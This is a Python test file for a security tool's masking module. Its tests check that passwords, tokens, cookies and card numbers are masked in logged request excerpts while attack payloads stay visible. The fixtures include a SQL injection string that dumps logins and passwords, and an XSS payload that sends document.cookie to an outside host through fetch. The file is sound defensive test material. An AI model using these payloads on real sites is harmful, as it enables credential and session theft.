"""Secrets are masked, attacks are shown, and the pieces stay where they were."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.sinks.masking import EXCERPT_CHARS, MASK, excerpt, is_secret, mask_text, printable

SQLI = "1' UNION SELECT login, password FROM users-- -"


@pytest.mark.parametrize(
    ("location", "name"),
    [
        ("header", "Authorization"), ("header", "Proxy-Authorization"), ("header", "X-Api-Key"), ("header", "apikey"),
        ("header", "X-Auth-Token"), ("header", "Set-Cookie"), ("header", "X-CSRF-Token"), ("cookie", "theme"),
        ("cookie", ""), ("form", "password"), ("form", "new_passwd"), ("form", "pwd"), ("json", "user.passphrase"),
        ("json", "client_secret"), ("json", "card.number"), ("form", "cardNumber"), ("form", "cc_number"),
        ("form", "cvv"), ("query", "access_token"), ("query", "PHPSESSID"), ("query", "sid"), ("query", "jwt"),
        ("json", "credentials[0].value"), ("form", "iban"), ("form", "pin"), ("query", "X-Amz-Signature"),
    ],
)  # fmt: skip
def test_secret_fields(location: str, name: str) -> None:
    assert is_secret(location, name)


@pytest.mark.parametrize(
    ("location", "name"),
    [
        ("query", "id"), ("query", "q"), ("path", "path"), ("header", "User-Agent"), ("form", "author"),
        ("json", "passenger.name"), ("query", "discard"), ("query", "inside"), ("form", "spinner"), ("form", "company"),
        ("header", "Referer"), ("json", "cardinality"),
    ],
)  # fmt: skip
def test_ordinary_fields(location: str, name: str) -> None:
    assert not is_secret(location, name)


def test_a_name_is_no_value() -> None:
    assert not is_secret("form", "password", "name")


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("see Bearer abcdef123456secret now", "abcdef123456secret"),
        ("x=1&password=hunter2topsecret&y=2", "hunter2topsecret"),
        ('{"password": "hunter2topsecret"}', "hunter2topsecret"),
        ("user[password]=hunter2topsecret", "hunter2topsecret"),
        ("https://admin:hunter2topsecret@example.test/", "hunter2topsecret"),
        ("card 4111 1111 1111 1111 ok", "4111 1111 1111 1111"),
        ("card 4111111111111111", "4111111111111111"),
        ("t eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl z", "eyJzdWIiOiIxIn0"),
        ("redirect?access_token%3Dabcdefgh12345", "abcdefgh12345"),
    ],
)
def test_secrets_in_free_text(text: str, secret: str) -> None:
    masked = mask_text(text)
    assert secret not in masked
    assert MASK in masked


@pytest.mark.parametrize(
    "text", ["4111 1111 1111 1112", "0000000000000000", "order 12345", "the password is long", SQLI]
)
def test_what_is_no_secret_stays(text: str) -> None:
    assert mask_text(text) == text


def test_the_attack_is_shown_and_the_secret_beside_it_is_not() -> None:
    value = f"a=1&password=hunter2topsecret&id={SQLI}"
    start = value.index(SQLI)
    shown = excerpt(value, (start, len(value)), secret=False)
    assert SQLI in shown
    assert "hunter2" not in shown


def test_a_secret_cut_by_the_edge_of_the_excerpt_is_still_masked() -> None:
    value = "password=" + "s3cr3t" * 25 + " " + SQLI
    start = value.index(SQLI)
    shown = excerpt(value, (start, len(value)), secret=False)
    assert "s3cr3t" not in shown
    assert SQLI in shown


def test_a_secret_field_shows_nothing() -> None:
    assert excerpt(f"topsecret {SQLI}", (10, 30), secret=True) == MASK


def test_the_attacks_own_span_is_never_masked_elsewhere() -> None:
    value = "x <script>fetch('//h/?token='+document.cookie)</script>"
    assert excerpt(value, (2, len(value)), secret=False) == value


def test_an_excerpt_of_a_long_value_is_short_and_marked() -> None:
    value = "a " * 5000 + SQLI + " b" * 5000
    start = value.index(SQLI)
    shown = excerpt(value, (start, start + len(SQLI)), secret=False)
    assert SQLI in shown
    assert shown.startswith("…")
    assert shown.endswith("…")
    assert len(shown) <= EXCERPT_CHARS + 2


def test_lone_surrogates_become_printable() -> None:
    assert printable("a\udcffb") == "a\ufffdb"
    excerpt("\udc80<script>", (0, 9), secret=False).encode()


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=600), st.integers(0, 600), st.integers(0, 600))
def test_any_text_and_span_give_a_bounded_excerpt(value: str, start: int, length: int) -> None:
    start = min(start, len(value))
    shown = excerpt(value, (start, min(len(value), start + length)), secret=False)
    assert len(shown) <= (EXCERPT_CHARS + 2) * len(MASK)
    shown.encode()


@pytest.mark.parametrize(
    "text", ["cookıe=abcdef123", "sİd=abcdef123", "pa\u017fsword=abcdef123", "to\u212aen=abcdef123"]
)
def test_letters_that_the_patterns_take_for_one_another(text: str) -> None:
    assert mask_text(text) == text.split("=")[0] + "=" + MASK
